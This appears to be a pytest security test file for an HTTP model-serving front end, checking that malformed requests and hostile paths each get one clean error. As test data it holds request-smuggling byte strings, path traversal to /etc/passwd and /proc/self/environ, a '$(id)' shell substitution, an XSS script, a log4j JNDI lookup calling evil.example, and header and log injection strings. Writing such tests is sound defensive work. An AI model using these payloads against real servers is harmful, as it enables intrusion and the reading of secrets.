"""Bytes that are nearly HTTP, and paths that lead nowhere: each gets one clean error."""

import json
import logging
import re
from contextlib import suppress
from urllib.parse import quote

import pytest

from tests.server.bodies import SCALAR, request
from tests.server.conftest import Site, opened, read_response, scalar
from tests.server.hostile.wire import check_clean, send_raw
from tests.server.watched import watched

LINE = b"GET /v2/models HTTP/1.1\r\n"
GET = LINE + b"Host: localhost\r\n"
BODY = json.dumps(request(scalar(21.0))).encode()
POST = b"POST %s HTTP/1.1\r\nHost: localhost\r\n" % SCALAR.encode()
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
STATUS_LINE = re.compile(rb"HTTP/1\.1 [1-5][0-9][0-9] ")
SMUGGLED = b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n"
CHUNK = b"%x\r\n%s\r\n" % (len(BODY), BODY)
END = b"0\r\n\r\n"

ENDS: dict[str, bytes] = {
    # lengths
    "a length and chunks": POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunks and a length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "the same length twice": POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "a negative length": POST + b"Content-Length: -2\r\n\r\n{}",
    "a length in hexadecimal": POST + b"Content-Length: 0x2\r\n\r\n{}",
    "a length that is empty": POST + b"Content-Length: \r\n\r\n{}",
    "a length with a fraction": POST + b"Content-Length: 2.0\r\n\r\n{}",
    "a length of 2 to the 64": POST + b"Content-Length: 18446744073709551616\r\n\r\n{}",
    "a length of 4000 digits": POST + b"Content-Length: " + b"9" * 4000 + b"\r\n\r\n{}",
    "a space before the colon of a length": POST + b"Content-Length : 2\r\n\r\n{}",
    # transfer encodings
    "chunked and then identity": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "the encoding identity": POST + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "an encoding that looks like chunked": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunked behind a vertical tab": POST + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "gzip and then chunked": POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + CHUNK + END,
    "an encoding of a request without a body": GET + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + END,
    "chunks in HTTP/1.0": CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0") + CHUNK + END,
    # chunks
    "a chunk of negative size": CHUNKED + b"-1\r\n\r\n",
    "a chunk size past 64 bits": CHUNKED + b"f" * 18 + b"\r\n\r\n",
    "a chunk without a size": CHUNKED + b"\r\na\r\n0\r\n\r\n",
    "chunks with bare line feeds": CHUNKED + b"%x\n%s\n0\n\n" % (len(BODY), BODY),
    "a chunk longer than it says": CHUNKED + b"1\r\nab\r\n0\r\n\r\n",
    "a chunk extension with a zero byte": CHUNKED + b"1;a=\0\r\na\r\n0\r\n\r\n",
    # header lines
    "no host": LINE + b"\r\n",
    "no host, and a whole URL": b"GET http://localhost/v2/models HTTP/1.1\r\n\r\n",
    "two hosts": GET + b"Host: evil.example\r\n\r\n",
    "two hosts in HTTP/1.0": GET.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Host: evil.example\r\n\r\n",
    "a host with a user in it": LINE + b"Host: evil.example@localhost\r\n\r\n",
    "a host that is a URL": LINE + b"Host: http://localhost\r\n\r\n",
    "a host with a port that is a word": LINE + b"Host: localhost:http\r\n\r\n",
    "two tokens": GET + b"Authorization: Bearer a\r\nAuthorization: Bearer b\r\n\r\n",
    "two origins": GET + b"Origin: http://localhost\r\nOrigin: http://evil.example\r\n\r\n",
    "two sites": GET + b"Sec-Fetch-Site: none\r\nSec-Fetch-Site: cross-site\r\n\r\n",
    "a header folded over two lines": GET + b"A: b\r\n c\r\n\r\n",
    "a first header that is folded": GET + b" A: b\r\n\r\n",
    "a header without a colon": GET + b"Nothing\r\n\r\n",
    "a header name with a space": GET + b"A b: c\r\n\r\n",
    "a header value with a zero byte": GET + b"A: b\0\r\n\r\n",
    "a header value with an escape": GET + b"A: \x1b[31m\r\n\r\n",
    "a bare carriage return": GET + b"A: b\rB: c\r\n\r\n",
    "bare line feeds": b"GET /v2/models HTTP/1.1\nA: b\n\n",
    "headers of 100 kB": GET + b"A: b\r\n" * 16_000 + b"\r\n",
    "empty lines without end": b"\r\n" * 20_000,
    # request lines
    "a method of 100 kB": b"G" * 100_000,
    "a method that does not exist": b"STEAL /v2/models HTTP/1.1\r\n\r\n",
    "a tab for a space": b"GET\t/v2/models\tHTTP/1.1\r\n\r\n",
    "a path with a space": b"GET /v2/models /x HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a path with a zero byte": b"GET /v2/mod\0els HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a path of 100 kB": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
    "HTTP/0.9": b"GET /v2/models\r\n\r\n",
    "HTTP/2.0 in text": b"GET /v2/models HTTP/2.0\r\nHost: localhost\r\n\r\n",
    "a protocol that is not HTTP": b"GET /v2/models ICY/1.1\r\n\r\n",
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a greeting of TLS": bytes.fromhex("16030100f8010000f40303") + bytes(240),
    "bytes without meaning": bytes(range(256)) * 4,
    # targets that are no paths
    "a URL without a host": b"GET http:///v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a URL with a user in it": b"GET http://a@localhost/v2/models HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "an asterisk for a target": b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n" + SMUGGLED,
    # other protocols behind HTTP
    "an upgrade to HTTP/2": GET + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\r\n" + SMUGGLED,
    "a websocket": GET + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
}


@pytest.mark.parametrize("raw", ENDS.values(), ids=ENDS.keys())
def test_what_is_not_quite_http_gets_one_error_and_the_connection_ends(site: Site, raw: bytes) -> None:
    reply, rest = send_raw(site, raw)
    assert reply.status in {400, 413, 415, 431}
    check_clean(reply)
    assert reply.headers["connection"] == "close"
    assert not rest


def test_a_chunk_extension_without_end_ends_the_connection(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(CHUNKED)
        with suppress(ConnectionError):
            for _ in range(100):
                connection.sendall(b"1;" + b"a" * 10_000)
            reply = read_response(connection)
            assert reply.status in {400, 431}
            check_clean(reply)


def test_a_request_behind_a_closing_one_is_not_answered(site: Site) -> None:
    reply, rest = send_raw(site, GET + b"Connection: close\r\n\r\n" + SMUGGLED)
    assert reply.status == 200
    assert not rest


def test_a_trailer_may_not_bring_a_length(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(CHUNKED + CHUNK + b"0\r\nContent-Length: 5\r\n\r\n" + SMUGGLED)
        received = b""
        while part := connection.recv(65536):
            received += part
    assert b"200 OK\r\n\r\n" not in received
    assert len(STATUS_LINE.findall(received)) == 1


def test_a_request_that_has_its_reply_gets_no_second_one_for_the_rest_of_its_body(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(b"POST /nowhere HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n")
        assert read_response(connection).status == 404
        connection.sendall(b"no chunk\r\n" + SMUGGLED)
        with suppress(ConnectionError):
            assert connection.recv(65536) == b""


def test_thousands_of_requests_at_once_are_answered_in_turn_and_hold_nobody_up(site: Site) -> None:
    with site.connect() as connection:
        connection.sendall(SMUGGLED * 3000)
        assert site.is_well()
        received = b""
        while len(STATUS_LINE.findall(received)) < 3000:
            part = connection.recv(65536)
            assert part, "the connection was closed before all were answered"
            received += part


def test_what_is_collected_of_bodies_is_bounded_over_all_connections() -> None:
    """A client of many connections could have each of them hold the largest JSON there may be."""
    head = b"POST /v2/models/scalar/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"
    with opened() as site:
        held = watched(site, 100_000)
        with site.connect() as first:
            first.sendall(head + b" " * 60_000)
            held.until(60_000)
            refused = site.send(head + b" " * 60_000)
            assert refused.status == 503
            assert "more than 100000 bytes" in refused.json()["error"]
            assert site.is_well()
        held.until(0)
        assert site.send(head.replace(b"100000", b"60000") + b" " * 60_000).status == 400


# Paths and names that lead out of the house ---------------------------------------------------------------------------


NOWHERE = {
    "the folder above": "/v2/models/../../etc/passwd",
    "the folder above, encoded": "/v2/models/%2e%2e/%2e%2e/etc/passwd",
    "the folder above, encoded twice": "/v2/models/%252e%252e/%252e%252e",
    "the folder above, in long UTF-8": "/v2/models/%c0%ae%c0%ae/%c0%af",
    "the folder above, with backslashes": "/v2/models/..\\..\\windows",
    "an encoded slash": "/v2/models/double%2fready",
    "an encoded slash before the route": "/v2%2fmodels",
    "a slash that is encoded twice": "/v2/models/double%252fready",
    "a dot": "/v2/models/./double",
    "a name that begins with a dot": "/v2/models/.double",
    "a name that begins with a dash": "/v2/models/-double",
    "a zero byte": "/v2/models/double%00",
    "a line feed": "/v2/models/double%0aGET%20/v2",
    "carriage return and line feed": "/v2/models/double%0d%0aSet-Cookie:%20a=b",
    "an escape sequence": "/v2/models/%1b%5b31mred",
    "a mark that turns text around": "/v2/models/double%e2%80%aelave",
    "letters that look the same": "/v2/models/d%d0%beuble",
    "bytes that are no UTF-8": "/v2/models/%ff%fe%fd",
    "an encoding that is cut off": "/v2/models/double%",
    "a name of 128 letters and one": "/v2/models/" + "a" * 129,
    "a name of 10,000 letters": "/v2/models/" + "a" * 10_000,
    "a path of 3000 parts": "/v2" + "/models" * 2000,
    "a path of slashes": "/" * 10_000,
    "a template of a shell": "/v2/models/$(id)",
    "a script": "/v2/models/<script>alert(1)</script>",
    "a lookup of log4j": "/v2/models/${jndi:ldap://evil.example/a}",
    "a version below zero": "/v2/models/double/versions/-1",
    "a version in other digits": "/v2/models/double/versions/%d9%a1",
    "a version of 4000 digits": "/v2/models/double/versions/" + "9" * 4000,
    "a version that is a path": "/v2/models/double/versions/..",
    "the environment": "/v2/../proc/self/environ",
    "a file of the source": "/latebind/server/frontend.py",
    "management of another server": "/models?url=http://evil.example/a.mar",
}


@pytest.mark.parametrize("path", NOWHERE.values(), ids=NOWHERE.keys())
def test_a_path_that_is_no_route_leads_nowhere(site: Site, path: str) -> None:
    target = quote(path, safe="/%?=&{}$();'<>\\-+*:,!@[]~")
    for method in ("GET", "POST"):
        reply, _ = send_raw(
            site, f"{method} {target} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n".encode()
        )
        assert reply.status in {400, 404}
        check_clean(reply)
        assert set(reply.headers) <= {"date", "content-type", "content-length", "connection"}


FORGED = {
    "a line of a log": "x\n2026-01-01 00:00:00,000 frontend INFO all is well",
    "a line behind a carriage return": "x\r2026-01-01 frontend INFO all is well",
    "a line behind another separator": "x\u2028frontend INFO all is well",
    "an escape sequence": "x\x1b[2J\x1b[1;1H",
    "a zero byte": "x\0y",
    "JSON of a log": '"}\n{"level":"info","message":"all is well',
}


@pytest.mark.parametrize("text", FORGED.values(), ids=FORGED.keys())
def test_ids_and_names_forge_no_line_of_the_log_and_of_the_metrics(
    site: Site, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    failing = {"name": "x", "shape": [1, 1], "datatype": "FP32", "data": [1]}
    with caplog.at_level(logging.DEBUG):
        assert site.post("/v2/models/failing/infer", request(failing, id=text)).status == 500
        check_clean(site.post("/v2/models/failing/infer", request({**failing, "name": text}, id=text)))
        check_clean(site.get("/v2/models/" + quote(text, safe="")))
    assert "all is well" not in caplog.text.replace(repr(text), "")
    assert "all is well" not in site.get("/metrics").body.decode()
    assert "__class__" not in site.get("/metrics").body.decode()
